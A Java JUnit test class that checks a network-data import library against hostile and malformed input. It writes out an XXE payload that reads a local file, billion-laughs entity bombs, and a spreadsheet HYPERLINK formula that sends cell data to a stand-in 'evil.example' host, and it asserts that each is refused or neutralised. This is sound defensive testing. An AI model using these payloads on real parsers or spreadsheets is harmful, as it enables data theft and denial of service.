package dev.valuenet.interop;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.valuenet.interop.NetworkTables.ActorRow;
import dev.valuenet.interop.NetworkTables.FlowRow;

/** Hostile and broken input: XXE, billion laughs, truncation, bad encodings, formula injection. */
class HostileInputTest {

	@TempDir
	Path folder;

	private Path write(String name, String text) throws IOException {
		Path file = folder.resolve(name);
		Files.writeString(file, text);
		return file;
	}

	@Test
	void graphmlWithAnExternalEntityIsRefusedBeforeReadingIt() throws IOException {
		Path secret = write("secret.txt", "TOP-SECRET-CONTENT");
		Path file = write("xxe.graphml", """
				<?xml version="1.0"?>
				<!DOCTYPE graphml [ <!ENTITY xxe SYSTEM "%s"> ]>
				<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
				  <key id="k" for="node" attr.name="title" attr.type="string"/>
				  <graph id="g" edgedefault="directed"><node id="A"><data key="k">&xxe;</data></node></graph>
				</graphml>
				""".formatted(secret.toUri()));
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("graphml").read(file));
		assertTrue(e.getMessage().matches("(?s).*xxe\\.graphml:\\d+: the file declares a DTD.*"), e.getMessage());
		assertFalse(e.getMessage().contains("TOP-SECRET"), e.getMessage());
	}

	@Test
	void gexfBillionLaughsIsRefused() throws IOException {
		StringBuilder entities = new StringBuilder("<!ENTITY lol \"lol\">");
		for (int i = 1; i < 10; i++) {
			entities.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10)).append("\">");
		}
		Path file = write("laughs.gexf", "<?xml version=\"1.0\"?>\n<!DOCTYPE gexf [" + entities + "]>\n"
				+ "<gexf xmlns=\"http://www.gexf.net/1.2draft\"><graph><nodes><node id=\"a\" label=\"&lol9;\"/></nodes></graph></gexf>\n");
		long start = System.nanoTime();
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("gexf").read(file));
		assertTrue(e.getMessage().contains("DTD"), e.getMessage());
		assertTrue(System.nanoTime() - start < 5e9, "refused without expanding");
	}

	@Test
	void truncatedXmlNamesItsLine() throws IOException {
		TableFormat graphml = Formats.named("graphml");
		NetworkTables tables = sample("A", "B");
		String text = new String(graphml.write(tables).get(""), StandardCharsets.UTF_8);
		Path file = write("cut.graphml", text.substring(0, text.length() / 2));
		BadInputException e = assertThrows(BadInputException.class, () -> graphml.read(file));
		assertTrue(e.getMessage().matches("(?s).*cut\\.graphml:\\d+: not well-formed XML.*"), e.getMessage());
	}

	@Test
	void misEncodedCsvNamesItsLine() throws IOException {
		TableFormat csv = Formats.named("csv");
		Path target = folder.resolve("model.csv");
		for (var file : csv.write(sample("A", "B")).entrySet()) {
			Files.write(Formats.fileFor(target, file.getKey()), file.getValue());
		}
		Path flows = Formats.fileFor(target, CsvFormat.FLOWS);
		byte[] latin1 = "f2,A,B,goods,,true,1,t,,,1,t,,,\nf3,B,A,data,M\u00fcller,true,1,t,,,1,t,,,\n".getBytes(StandardCharsets.ISO_8859_1);
		Files.write(flows, latin1, java.nio.file.StandardOpenOption.APPEND);
		BadInputException e = assertThrows(BadInputException.class, () -> csv.read(target));
		assertTrue(e.getMessage().contains("model.flows.csv:") && e.getMessage().contains("not UTF-8"), e.getMessage());
	}

	@Test
	void csvWithAnUnclosedQuoteNamesItsLine() throws IOException {
		Path flows = write("cut.flows.csv", String.join(",", Columns.FLOW) + "\nf1,A,B,goods,\"Steel,true\n");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("csv").read(flows));
		assertTrue(e.getMessage().contains("cut.flows.csv:"), e.getMessage());
	}

	@Test
	void csvNumbersThatAreNotNumbersNameTheirLine() throws IOException {
		Path flows = write("bad.flows.csv", String.join(",", Columns.FLOW) + "\nf1,A,B,goods,,true,1,t,,,1,t,,,\nf2,A,B,goods,,true,lots,t,,,,,,,\n");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("csv").read(flows));
		assertEquals(flows + ":3: amount 'lots' is not a number", e.getMessage());
	}

	@Test
	void truncatedXlsxIsAClearError() throws IOException {
		byte[] bytes = Formats.named("xlsx").write(sample("A", "B")).get("");
		Path file = folder.resolve("cut.xlsx");
		Files.write(file, Arrays.copyOf(bytes, bytes.length / 2));
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("xlsx").read(file));
		assertTrue(e.getMessage().contains("cut.xlsx") && e.getMessage().contains("XLSX"), e.getMessage());
	}

	@Test
	void formulasAreNeutralisedInCsvAndXlsxAndComeBackAsText() throws IOException {
		String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
		NetworkTables tables = new NetworkTables("n", "@SUM(1+1)", "EUR",
				List.of(new ActorRow("A", "actor", "firm", formula, Double.NaN, Map.of()),
						new ActorRow("B", "actor", "firm", "+1-2", Double.NaN, Map.of()), new ActorRow("C", "actor", "firm", "-5", Double.NaN, Map.of())),
				List.of(new FlowRow("f", "A", "B", "money", null, true, -0.0 + 5, "EUR", null, null, 5, "EUR", 5, null, null)), List.of());
		Path target = folder.resolve("evil.csv");
		for (var file : Formats.named("csv").write(tables).entrySet()) {
			Files.write(Formats.fileFor(target, file.getKey()), file.getValue());
		}
		String actors = Files.readString(Formats.fileFor(target, CsvFormat.ACTORS));
		for (String line : actors.lines().skip(1).toList()) {
			for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
				String text = cell.startsWith("\"") ? cell.substring(1) : cell;
				assertFalse(text.startsWith("=") || text.startsWith("+") || text.startsWith("-") || text.startsWith("@"), line);
			}
		}
		NetworkTables csv = Formats.named("csv").read(target);
		assertEquals(formula, csv.actor("A").title());
		assertEquals("+1-2", csv.actor("B").title());
		assertEquals("-5", csv.actor("C").title());
		assertEquals("@SUM(1+1)", csv.title());
		assertEquals(5.0, csv.flows().get(0).amount());

		Path xlsx = folder.resolve("evil.xlsx");
		Files.write(xlsx, Formats.named("xlsx").write(tables).get(""));
		String sheetXml = unzipAll(xlsx);
		assertFalse(sheetXml.contains("<f>"), "no formula cell");
		assertFalse(sheetXml.contains(">=HYPERLINK"), "no text cell starting with =");
		NetworkTables read = Formats.named("xlsx").read(xlsx);
		assertEquals(formula, read.actor("A").title());
		assertEquals("-5", read.actor("C").title());
	}

	private static String unzipAll(Path file) throws IOException {
		StringBuilder text = new StringBuilder();
		// ZipFile, not ZipInputStream: the writer streams entries with sizes in data descriptors
		try (var zip = new java.util.zip.ZipFile(file.toFile())) {
			for (var entries = zip.entries(); entries.hasMoreElements();) {
				text.append(new String(zip.getInputStream(entries.nextElement()).readAllBytes(), StandardCharsets.UTF_8));
			}
		}
		return text.toString();
	}

	@Test
	void kumuThatIsNotJsonIsAClearError() throws IOException {
		Path file = write("cut.kumu.json", "{\"elements\": [{\"label\": \"A\"");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("kumu").read(file));
		assertTrue(e.getMessage().contains("cut.kumu.json:1: the JSON ends early"), e.getMessage());
	}

	@Test
	void dotAndMermaidEscapeLabels() throws IOException {
		NetworkTables tables = new NetworkTables("n", "a \"quoted\" title", null,
				List.of(new ActorRow("A", "actor", "firm", "say \"hi\"\n|x|", Double.NaN, Map.of()),
						new ActorRow("end", "actor", "firm", null, Double.NaN, Map.of())),
				List.of(new FlowRow("f", "A", "end", "data", null, false, Double.NaN, null, null, null, Double.NaN, null, Double.NaN, null, null)),
				List.of());
		String dot = new String(Formats.named("dot").write(tables).get(""), StandardCharsets.UTF_8);
		assertTrue(dot.contains("\"say \\\"hi\\\"\\n|x|\\nfirm\""), dot);
		assertTrue(dot.contains("style=dashed"), dot);
		String mermaid = new String(Formats.named("mermaid").write(tables).get(""), StandardCharsets.UTF_8);
		assertTrue(mermaid.contains("A[\"say #quot;hi#quot; #124;x#124;\"]"), mermaid);
		assertTrue(mermaid.contains("A -.->|\"data\"| n_end"), mermaid);
	}

	@Test
	void aKumuAmountBeyondADoubleIsNotAFiniteNumber() throws IOException {
		Path file = write("inf.kumu.json", """
				{"elements":[{"label":"A","type":"firm"},{"label":"B","type":"firm"}],
				 "connections":[{"from":"A","to":"B","type":"goods","amount":1e999,"unit":"t"}]}
				""");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("kumu").read(file));
		assertEquals(file + ": connection 1: amount '1e999' is not a finite number; give a number or leave it empty", e.getMessage());
	}

	@Test
	void aNanAmountIsRefusedLikeInfinityNotDropped() throws IOException {
		Path graphml = write("nan.graphml", """
				<?xml version="1.0"?>
				<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
				<key id="k" for="edge" attr.name="kind" attr.type="string"/>
				<key id="a" for="edge" attr.name="amount" attr.type="double"/>
				<graph id="g" edgedefault="directed">
				<node id="A"/><node id="B"/>
				<edge source="A" target="B"><data key="k">money</data><data key="a">NaN</data></edge>
				</graph></graphml>
				""");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("graphml").read(graphml));
		assertEquals(graphml + ":7: amount 'NaN' is not a finite number; give a number or leave it empty", e.getMessage());
		Path kumu = write("nan.kumu.json", """
				{"elements":[{"label":"A"},{"label":"B"}],"connections":[{"from":"A","to":"B","type":"goods","amount":"NaN","unit":"t"}]}
				""");
		e = assertThrows(BadInputException.class, () -> Formats.named("kumu").read(kumu));
		assertEquals(kumu + ": connection 1: amount 'NaN' is not a finite number; give a number or leave it empty", e.getMessage());
	}

	@Test
	void aNanNumberCellInXlsxNamesItsSheetAndRow() throws IOException {
		Path file = folder.resolve("nan.xlsx");
		try (var out = Files.newOutputStream(file)) {
			var workbook = new org.dhatim.fastexcel.Workbook(out, "test", "1.0");
			var flows = workbook.newWorksheet("Flows");
			List<String> header = List.of("id", "from", "to", "kind", "amount");
			for (int c = 0; c < header.size(); c++) {
				flows.value(0, c, header.get(c));
			}
			flows.value(1, 0, "f1");
			flows.value(1, 1, "A");
			flows.value(1, 2, "B");
			flows.value(1, 3, "goods");
			flows.value(1, 4, Double.NaN); // a number cell whose text is NaN
			workbook.finish();
		}
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("xlsx").read(file));
		assertTrue(e.getMessage().startsWith(file + ": sheet Flows row 2: a number cell holds 'NaN', which is not a number"), e.getMessage());
	}

	@Test
	void graphmlExportDropsCharactersXmlCannotCarry() throws IOException {
		NetworkTables tables = new NetworkTables("n", "t\u0002", "EUR",
				List.of(new ActorRow("A", "actor", "firm", "Acme\u0001 Corp", Double.NaN, Map.of()), new ActorRow("B", "actor", "firm", null, Double.NaN, Map.of())),
				List.of(), List.of());
		for (String format : List.of("graphml", "gexf")) {
			byte[] bytes = Formats.named(format).write(tables).get("");
			String text = new String(bytes, StandardCharsets.UTF_8);
			assertFalse(text.contains("\u0001") || text.contains("\u0002") || text.contains("&#"), text);
			Path file = folder.resolve("ctl." + format);
			Files.write(file, bytes);
			assertEquals("Acme Corp", Formats.named(format).read(file).actor("A").title(), format);
		}
	}

	@Test
	void graphmlGraphWithoutAnIdIsImported() throws IOException {
		Path file = write("min3.graphml", """
				<?xml version="1.0"?>
				<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
				<graph edgedefault="directed">
				<node id="a"/>
				</graph></graphml>
				""");
		NetworkTables tables = Formats.named("graphml").read(file);
		assertEquals("min3", tables.name());
		assertEquals(List.of("a"), tables.actors().stream().map(ActorRow::id).toList());
	}

	@Test
	void csvWithAQuoteNeverClosedSaysSoInPlainWords() throws IOException {
		Path flows = write("quote.flows.csv", "id,from,to,kind,amount,unit,per\nf1,\"A,B,goods,5,t,year\n");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("csv").read(flows));
		assertEquals(flows + ":2: a quoted field opened on line 2 is never closed; add the closing \" (a quote inside a field is written \"\")"
				+ " or remove the opening one", e.getMessage());
	}

	@Test
	void brokenKumuJsonSaysWhereInPlainWords() throws IOException {
		Path cut = write("trunc.kumu.json", "{\n\"elements\": [\n {\"label\": \"A\"");
		String truncated = assertThrows(BadInputException.class, () -> Formats.named("kumu").read(cut)).getMessage();
		assertTrue(truncated.startsWith(cut + ":3: the JSON ends early"), truncated);
		Path deep = write("deep.kumu.json", "{\"a\":".repeat(300) + "1" + "}".repeat(300));
		String nested = assertThrows(BadInputException.class, () -> Formats.named("kumu").read(deep)).getMessage();
		assertTrue(nested.startsWith(deep + ":1: the JSON nests objects or arrays too deeply"), nested);
		Path colon = write("colon.kumu.json", "{\"elements\" [] }");
		String malformed = assertThrows(BadInputException.class, () -> Formats.named("kumu").read(colon)).getMessage();
		assertTrue(malformed.startsWith(colon + ":1: not valid JSON (column "), malformed);
		for (String message : List.of(truncated, nested, malformed)) {
			assertFalse(message.contains("Exception") || message.contains("JsonReader") || message.contains("$."), message);
		}
	}

	@Test
	void aFileThatIsNotAZipIsNotAnXlsx() throws IOException {
		Path file = write("notzip.xlsx", "not a zip\n");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("xlsx").read(file));
		assertEquals(file + ": not an .xlsx file (an .xlsx is a zip archive); save it from the spreadsheet as .xlsx, or export CSV and import that",
				e.getMessage());
	}

	@Test
	void aDoctypeAndABadByteAreReportedOnTheirOwnLine() throws IOException {
		Path laughs = write("laughs.graphml", """
				<?xml version="1.0"?>
				<!DOCTYPE lolz [
				 <!ENTITY lol "lol">
				 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
				]>
				<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed"><node id="&lol2;"/></graph></graphml>
				""");
		BadInputException e = assertThrows(BadInputException.class, () -> Formats.named("graphml").read(laughs));
		assertTrue(e.getMessage().startsWith(laughs + ":2: the file declares a DTD"), e.getMessage());
		Path flows = folder.resolve("latin1.flows.csv");
		Files.write(flows, "id,from,to,kind,amount,unit,per\nf1,A,B,goods,5,caf\u00e9,year\n".getBytes(StandardCharsets.ISO_8859_1));
		e = assertThrows(BadInputException.class, () -> Formats.named("csv").read(flows));
		assertTrue(e.getMessage().startsWith(flows + ":2: not UTF-8"), e.getMessage());
	}

	@Test
	void moneyWithoutANetworkCurrencySaysSo() throws IOException {
		Path flows = write("inj.flows.csv", "id,from,to,kind,amount,unit,per\nf1,A,B,goods,5,t,year\nf2,B,A,money,5,EUR,year\n");
		NetworkTables tables = Formats.named("csv").read(flows);
		VnetText.Result result = VnetText.of(tables, folder.resolve("inj.vnet"));
		assertTrue(result.notes().contains("flow f2: its magnitude 5 EUR/year is money, but no currency is declared for the network (give it in the"
				+ " currency column of NAME.network.csv, of the Network sheet or of the graph); imported without magnitude"), result.notes().toString());
	}

	static NetworkTables sample(String a, String b) {
		return new NetworkTables("n", "t", "EUR",
				List.of(new ActorRow(a, "actor", "firm", "Firm " + a, Double.NaN, Map.of()), new ActorRow(b, "actor", "supplier", null, Double.NaN, Map.of())),
				List.of(new FlowRow("f1", b, a, "goods", null, true, 10, "t", "year", null, 10, "t", Double.NaN, null, null),
						new FlowRow("f2", a, b, "money", null, true, 100, "EUR", "year", null, 100, "EUR", 100, null, null)),
				List.of());
	}
}
